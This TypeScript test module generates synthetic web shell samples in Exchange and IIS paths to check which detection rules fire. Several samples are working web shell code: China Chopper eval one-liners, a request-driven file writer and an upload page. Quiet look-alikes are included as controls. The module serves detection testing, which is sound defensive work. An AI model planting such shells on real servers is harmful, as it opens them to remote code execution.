/**
 * @module detect/files/synthetic/webshell-samples
 * Web shell forms and look-alikes generated at test time, each with the exhunt rules that must
 * (and only those that may) match it. They are written from the published descriptions of each
 * family: inert text that has the shape of a web shell, never a real sample (we ship no malware).
 * The same list drives the backend contract suite, the file-scan tests and the benchmark tree.
 */

export interface Sample {
  /** Stable id, used in test names. */
  id: string;
  /** Where the sample is placed in a generated evidence tree (relative, forward slashes). */
  relPath: string;
  data: Buffer;
  /** Our rules that must match, exactly (an empty list means the file must stay quiet). */
  rules: string[];
}

const HTTPPROXY = 'Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy';

function utf16(text: string): Buffer {
  return Buffer.from(text, 'utf16le');
}

/** Bytes that look like a binary header followed by padding, then `tail`. */
function binaryThen(header: number[], tail: string, pad = 512): Buffer {
  const filler = Buffer.alloc(pad);
  for (let i = 0; i < pad; i++) filler[i] = (i * 37 + 11) & 0xff;
  return Buffer.concat([Buffer.from(header), filler, Buffer.from(tail, 'latin1')]);
}

const OAB_DUMP = [
  'Name                            : OAB (Default Web Site)',
  'PollInterval                    : 480',
  'OfflineAddressBooks             :',
  'RequireSSL                      : False',
  'BasicAuthentication             : False',
  'WindowsAuthentication           : True',
  'InternalAuthenticationMethods   : {WindowsIntegrated, OAuth}',
  'ExtendedProtectionTokenChecking : None',
  'InternalUrl                     : https://mail.example.test/OAB',
  'ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["sample"],"unsafe");}</script>',
  'AdminDisplayVersion             : Version 15.1 (Build 2106.2)',
].join('\r\n');

const STOCK_LOGON = `<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<!DOCTYPE HTML>
<html dir="ltr"><head>
<script type="text/javascript">
  function clkLgn() { var f = document.forms[0]; if (f) { f.submit(); } }
  var a = eval("(" + '{"x":1}' + ")");
</script>
<link rel="stylesheet" href="/owa/auth/15.1.2106/themes/resources/logon.css">
</head><body class="signInBg"><form action="/owa/auth.owa" method="POST" name="logonForm">
<input type="text" id="username" name="username"><input type="password" id="password" name="password">
</form></body></html>
`;

const REGEORG = `<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
  String cmd = Request.Headers.Get("X-CMD");
  if (cmd == "CONNECT") { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
    Response.AddHeader("X-STATUS", "OK"); }
  else if (cmd == "DISCONNECT") { Response.AddHeader("X-STATUS", "OK"); }
  else if (cmd == "FORWARD") { } else if (cmd == "READ") { }
}
</script>`;

const SPORTSBALL = `<%@ Page Language="C#" %>
<script runat="server">
void Run() {
  HttpCookie newcook = new HttpCookie("fqrspt", HttpContext.Current.Request.Form["k"]);
  newcook.Expires = DateTime.Now.AddDays(1);
  System.Diagnostics.Process process = new System.Diagnostics.Process();
  process.StandardInput.WriteLine(HttpContext.Current.Request.Form["c"]);
}
</script><form><input type="submit" value="Upload" /></form>`;

export function webShellSamples(): Sample[] {
  return [
    {
      id: 'chopper-jscript-oneliner',
      relPath: 'inetpub/wwwroot/aspnet_client/system_web/4_0_30319/help.aspx',
      data: Buffer.from('<%@ Page Language="Jscript"%><%eval(Request.Item["z1"],"unsafe");%>'),
      rules: ['EXHUNT_Webshell_ChinaChopper_JScript_Eval'],
    },
    {
      id: 'chopper-script-tag',
      relPath: `${HTTPPROXY}/owa/auth/errorEE.aspx`,
      data: Buffer.from(
        '<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>',
      ),
      rules: ['EXHUNT_Webshell_ChinaChopper_JScript_Eval'],
    },
    {
      id: 'chopper-utf16',
      relPath: 'inetpub/wwwroot/aspnet_client/discover.aspx',
      data: utf16('<%@ Page Language="Jscript"%><%eval(Request.Form["pw"], "unsafe");%>'),
      rules: ['EXHUNT_Webshell_ChinaChopper_JScript_Eval'],
    },
    {
      id: 'chopper-base64',
      relPath: `${HTTPPROXY}/owa/auth/Current/themes/resources/shell.aspx`,
      data: Buffer.from(
        '<%@ Page Language="Jscript" Debug=true%><%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Form["p"])),"unsafe");%>',
      ),
      rules: ['EXHUNT_Webshell_ChinaChopper_Base64_Eval'],
    },
    {
      id: 'csharp-request-writer',
      relPath: `${HTTPPROXY}/ecp/auth/TimeoutLogoutx.aspx`,
      data: Buffer.from(
        '<script runat="server">void Page_Load(object s, EventArgs e){ System.IO.StreamWriter w = new System.IO.StreamWriter(Request.Form["p"], false); w.Write(Request.Form["c"]); w.Close(); }</script>',
      ),
      rules: ['EXHUNT_Webshell_CSharp_Request_Writer'],
    },
    {
      id: 'oab-externalurl-dump',
      relPath: 'Program Files/Microsoft/Exchange Server/V15/ClientAccess/OAB/log.aspx',
      data: Buffer.from(OAB_DUMP),
      rules: ['EXHUNT_Webshell_OAB_ExternalUrl_Dump', 'EXHUNT_Webshell_ChinaChopper_JScript_Eval'],
    },
    {
      id: 'pst-header-aspx',
      relPath: 'inetpub/wwwroot/aspnet_client/570221043.aspx',
      data: binaryThen(
        [0x21, 0x42, 0x44, 0x4e, 0x53, 0x48, 0x4d, 0x00],
        '<%@ Page Language="C#" %><% Response.Write("x"); %>',
      ),
      rules: ['EXHUNT_Webshell_PST_Header_Page'],
    },
    {
      id: 'der-header-aspx',
      relPath: `${HTTPPROXY}/owa/auth/luifdecggoqmansn.aspx`,
      data: binaryThen(
        [0x30, 0x82, 0x04, 0x10, 0x30, 0x82, 0x02, 0xf8],
        '<script runat="server">Response.Write(1);</script>',
      ),
      rules: ['EXHUNT_Webshell_DER_Header_Page'],
    },
    {
      id: 'compiled-app-web-dll',
      relPath:
        'Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/1a2b3c4d/5e6f7a8b/App_Web_help.aspx.cdcab7d2.x1y2z3ab.dll',
      data: Buffer.concat([
        binaryThen([0x4d, 0x5a, 0x90, 0x00], 'App_Web_x1y2z3ab.dll\0JScriptEvaluate\0', 256),
        utf16('~/aspnet_client/system_web/help.aspx'),
      ]),
      rules: ['EXHUNT_Webshell_Compiled_App_Web_Dll'],
    },
    {
      id: 'regeorg-tunnel',
      relPath: 'inetpub/wwwroot/aspnet_client/tunnel.aspx',
      data: Buffer.from(REGEORG),
      rules: ['EXHUNT_Webshell_ReGeorg_Tunnel'],
    },
    {
      id: 'sportsball',
      relPath: `${HTTPPROXY}/owa/auth/Current/scripts/premium/fexppw.aspx`,
      data: Buffer.from(SPORTSBALL),
      rules: ['EXHUNT_Webshell_SportsBall'],
    },
    {
      id: 'simpleseesharp',
      relPath: 'inetpub/wwwroot/aspnet_client/system_web/log.aspx',
      data: Buffer.from(
        '<%@ Page Language="C#" %><% HttpPostedFile thisFile = Request.Files[0]; thisFile.SaveAs(Path.Combine(Server.MapPath("."), thisFile.FileName)); %>',
      ),
      rules: ['EXHUNT_Webshell_SimpleSeeSharp'],
    },
    // Look-alikes that must stay quiet.
    {
      id: 'stock-logon-aspx',
      relPath: `${HTTPPROXY}/owa/auth/logon.aspx`,
      data: Buffer.from(STOCK_LOGON),
      rules: [],
    },
    {
      id: 'iis-log-with-chopper-text',
      relPath: 'inetpub/logs/LogFiles/W3SVC1/u_ex210303.log',
      data: Buffer.from(
        '#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time cs-uri-stem\r\n2021-03-03 01:02:03 /ecp/y.js eval(Request.Item["a"],"unsafe")\r\n',
      ),
      rules: [],
    },
    {
      id: 'pst-without-markup',
      relPath: 'ProgramData/export/mailbox.pst',
      data: binaryThen([0x21, 0x42, 0x44, 0x4e], 'plain mailbox bytes', 4096),
      rules: [],
    },
    {
      id: 'plain-dll',
      relPath: 'Program Files/Microsoft/Exchange Server/V15/Bin/Microsoft.Exchange.Data.dll',
      data: binaryThen([0x4d, 0x5a, 0x90, 0x00], 'App_Web_ is just text here; no virtual path', 2048),
      rules: [],
    },
  ];
}
